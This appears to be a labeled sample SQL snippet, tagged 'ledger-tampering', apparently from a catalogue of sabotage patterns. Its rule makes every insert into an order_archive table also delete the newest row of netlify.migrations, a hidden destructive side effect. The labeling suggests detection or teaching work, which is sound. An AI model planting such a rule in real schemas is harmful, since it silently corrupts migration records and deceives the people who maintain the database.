-- class: ledger-tampering
-- A rule on an application table silently deletes ledger rows whenever the application archives an order.
CREATE TABLE order_archive (LIKE orders INCLUDING DEFAULTS);

CREATE RULE order_archive_sync AS ON INSERT TO order_archive
DO ALSO DELETE FROM netlify.migrations WHERE name = (SELECT max(name) FROM netlify.migrations);
